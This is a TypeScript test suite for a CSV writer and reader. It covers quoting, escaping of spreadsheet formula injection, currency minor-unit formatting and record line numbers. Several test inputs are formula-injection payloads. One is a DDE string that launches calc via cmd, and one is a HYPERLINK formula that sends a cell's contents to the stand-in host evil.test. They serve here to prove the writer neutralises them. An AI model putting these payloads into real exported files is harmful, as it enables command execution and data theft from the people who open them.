import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readRecords, writeAmount, writeLine } from './csv.ts';

describe('a line', () => {
  test.each([
    ['plain', 'plain'],
    ['with, comma', '"with, comma"'],
    ['with "quotes"', '"with ""quotes"""'],
    ['two\nlines', '"two\nlines"'],
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+49', "'+49"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['＝1', "'＝1"],
    [' =1', "' =1"],
    [";=cmd|' /C calc'!A0;", `";'=cmd|' /C calc'!A0;"`],
    ['a;+1', `"a;'+1"`],
    ['a "=1"', `"a ""'=1"""`],
    ['9–17; up-to-date', '"9–17; up-to-date"'],
    ['=HYPERLINK("https://evil.test?"&A1,"x")', `"'=HYPERLINK(""https://evil.test?""&A1,""x"")"`],
    ['قناة', 'قناة'],
  ])('writes %j so that no spreadsheet takes it for a formula', (cell, written) => {
    expect(writeLine([cell])).toBe(`${written}\r\n`);
  });

  test('keeps numbers and money as numbers, and leaves out what is not known', () => {
    expect(writeLine([-3, 0.25, { amount: -1234, currency: 'USD' }, { amount: 5, currency: 'KWD' }, null, 'x'])).toBe(
      '-3,0.25,-12.34,0.005,,x\r\n',
    );
  });

  test('is read back as it was, whatever it holds', () => {
    const cell = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/.test(text));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 }), (rows) => {
        const read = readRecords(rows.map(writeLine).join(''));
        expect(read.map(({ cells }) => cells)).toEqual(rows);
      }),
    );
  });
});

test.each([
  [1230, 'USD', '12.30'],
  [-5, 'EUR', '-0.05'],
  [0, 'EUR', '0.00'],
  [1230, 'JPY', '1230'],
  [1230, 'KWD', '1.230'],
  [1230, 'HUF', '12.30'],
])('%i minor units of %s are %s', (amount, currency, text) => {
  expect(writeAmount({ amount, currency })).toBe(text);
});

test('records know their lines', () => {
  expect(readRecords('\ufeffa,b\r\n\r\n"x\ny",2\rlast,"3"')).toEqual([
    { line: 1, cells: ['a', 'b'] },
    { line: 3, cells: ['x\ny', '2'] },
    { line: 5, cells: ['last', '3'] },
  ]);
  expect(readRecords('')).toEqual([]);
});
